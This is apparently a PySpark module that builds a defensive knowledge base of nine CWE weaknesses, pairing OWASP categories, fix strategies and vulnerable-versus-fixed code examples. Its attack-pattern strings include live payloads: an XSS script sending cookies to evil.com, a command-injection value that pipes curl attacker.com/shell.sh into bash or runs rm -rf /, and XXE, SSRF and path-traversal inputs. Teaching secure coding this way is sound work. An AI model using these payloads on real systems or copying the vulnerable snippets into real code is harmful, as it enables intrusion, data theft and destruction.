"""Weakness guidance: a fixed nine-row dimension."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

# Guidance per weakness.  (id, name, category, severity, description, attack, strategy, references)
ENTRIES = [
    ("CWE-89", "SQL Injection", "A03:2021 – Injection", "CRITICAL",
     "The software constructs all or part of an SQL command using externally-influenced input, allowing an attacker to modify the intended SQL command.",
     "Attacker injects ' OR '1'='1 or UNION SELECT to exfiltrate data, bypass auth, or destroy data.",
     "Use parameterized queries / prepared statements. Never concatenate user input into SQL strings.",
     ["https://owasp.org/www-community/attacks/SQL_Injection",
      "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html"]),
    ("CWE-79", "Cross-Site Scripting (XSS)", "A03:2021 – Injection", "HIGH",
     "The software does not neutralize or incorrectly neutralizes user-controllable input before placing it in output that is used as a webpage.",
     "Attacker injects <script>document.location='http://evil.com?c='+document.cookie</script>",
     "Use context-aware output encoding. In Python use markupsafe.escape(), in JS use textContent instead of innerHTML.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html"]),
    ("CWE-78", "OS Command Injection", "A03:2021 – Injection", "CRITICAL",
     "The software constructs all or part of an OS command using externally-influenced input.",
     "Attacker provides 'filename; rm -rf /' or '`curl attacker.com/shell.sh | bash`'",
     "Use subprocess with list arguments (no shell=True). Validate and whitelist allowed values.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html"]),
    ("CWE-22", "Path Traversal", "A01:2021 – Broken Access Control", "HIGH",
     "The software uses external input to construct a pathname intended to identify a file, but does not properly neutralize sequences such as '../'.",
     "Attacker provides '../../etc/passwd' or '%2e%2e%2f' to access files outside intended directory.",
     "Use Path.resolve() to canonicalize paths. Verify the resolved path starts with expected base directory.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html"]),
    ("CWE-798", "Hardcoded Credentials", "A07:2021 – Identification and Authentication Failures", "CRITICAL",
     "The software contains hard-coded credentials, such as a password or cryptographic key.",
     "Attacker finds credentials in source code or binary, uses them for unauthorized access.",
     "Use environment variables or secret managers (Vault, AWS Secrets Manager, .env files). Never commit credentials.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html"]),
    ("CWE-502", "Deserialization of Untrusted Data", "A08:2021 – Software and Data Integrity Failures", "CRITICAL",
     "The application deserializes untrusted data without sufficiently verifying the data is valid.",
     "Attacker crafts malicious pickle/Java serialized object that executes code on deserialization.",
     "Avoid pickle/marshal for untrusted data. Use JSON/protobuf. If must deserialize, use signed/verified data only.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html"]),
    ("CWE-327", "Use of Broken or Risky Cryptographic Algorithm", "A02:2021 – Cryptographic Failures", "HIGH",
     "Use of outdated or weak cryptographic algorithms (MD5, SHA1, DES, RC4).",
     "MD5/SHA1 collisions can forge hashes. DES can be brute-forced in hours.",
     "Use SHA-256 or better for hashing. AES-256-GCM for encryption. bcrypt/argon2 for passwords.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/Cryptographic_Storage_Cheat_Sheet.html"]),
    ("CWE-611", "XXE - XML External Entity Injection", "A05:2021 – Security Misconfiguration", "HIGH",
     "The software processes XML input with external entity references, allowing attackers to read local files or SSRF.",
     "Attacker injects <!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]> to read files.",
     "Disable external entity processing in XML parsers.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html"]),
    ("CWE-918", "SSRF - Server-Side Request Forgery", "A10:2021 – Server-Side Request Forgery", "HIGH",
     "The server makes HTTP requests to an attacker-specified URL, potentially accessing internal services.",
     "Attacker provides http://169.254.169.254/latest/meta-data/ (AWS metadata) or http://internal-service/admin",
     "Validate and whitelist allowed URLs/IPs. Block private IP ranges. Use allowlist of trusted domains.",
     ["https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html"]),
]

# Fix examples.  (id, language, vulnerable, fixed)
FIX_EXAMPLES = [
    ("CWE-89", "python", """cursor.execute("SELECT * FROM users WHERE name='" + name + "'")""",
     'cursor.execute("SELECT * FROM users WHERE name=?", (name,))'),
    ("CWE-89", "java", """stmt.execute("SELECT * FROM users WHERE name='" + name + "'")""",
     'PreparedStatement ps = conn.prepareStatement("SELECT * FROM users WHERE name=?"); ps.setString(1, name);'),
    ("CWE-79", "python", "return f'<h1>Hello {name}</h1>'",
     "from markupsafe import escape\nreturn f'<h1>Hello {escape(name)}</h1>'"),
    ("CWE-78", "python", "os.system('ls ' + user_input)",
     "subprocess.run(['ls', user_input], check=True, capture_output=True)"),
    ("CWE-22", "python", "open('/data/' + filename).read()",
     "base = Path('/data').resolve()\ntarget = (base / filename).resolve()\nif not str(target).startswith(str(base)):\n    raise ValueError('Path traversal detected')\nopen(target).read()"),
    ("CWE-798", "python", "API_KEY = 'sk-abc123'",
     "import os\nAPI_KEY = os.environ['API_KEY']  # Set in .env or secret manager"),
    ("CWE-502", "python", "data = pickle.loads(user_data)",
     "import json\ndata = json.loads(user_data)  # or use safe alternatives"),
    ("CWE-327", "python", "hashlib.md5(password.encode()).hexdigest()",
     "import bcrypt\nbcrypt.hashpw(password.encode(), bcrypt.gensalt())"),
    ("CWE-611", "python", "ET.fromstring(xml_data)",
     "from defusedxml import ElementTree as ET\nET.fromstring(xml_data)"),
    ("CWE-918", "python", "requests.get(user_url)",
     "from urllib.parse import urlparse\nallowed = ['api.example.com']\nif urlparse(user_url).hostname not in allowed:\n    raise ValueError('URL not allowed')\nrequests.get(user_url)"),
]

_SCHEMA = ("kb_id string, name string, owasp string, severity_guidance string, description string, "
           "attack_pattern string, fix_strategy string, references array<string>, "
           "fix_example map<string, struct<vulnerable: string, fixed: string>>")


def knowledge_base(spark: SparkSession) -> DataFrame:
    """One row per weakness, with ``fix_example`` as map language -> (vulnerable, fixed).  Nine rows, always."""
    rows = [(*e, {lang: (bad, good) for i, lang, bad, good in FIX_EXAMPLES if i == e[0]}) for e in ENTRIES]
    return spark.createDataFrame(rows, _SCHEMA)


def normalise_cwe(raw: Column) -> Column:
    """'89', 'cwe-89' and 'CWE-89' become 'CWE-89'; missing or empty stays null."""
    number = F.trim(F.replace(F.upper(raw), F.lit("CWE-"), F.lit("")))
    return F.when(F.coalesce(raw, F.lit("")) != "", F.concat(F.lit("CWE-"), number))


def search_expr(keyword: Column) -> Column:
    """Ids of the entries whose name or description contains ``keyword``, ignoring case.

    The nine entries are literals in the plan, so many keywords need no join at all.
    """
    entries = F.array(*[F.struct(F.lit(i).alias("id"), F.lit(n.lower()).alias("n"), F.lit(d.lower()).alias("d"))
                        for i, n, _, _, d, *_ in ENTRIES])
    k = F.lower(keyword)
    return F.transform(F.filter(entries, lambda e: e["n"].contains(k) | e["d"].contains(k)), lambda e: e["id"])
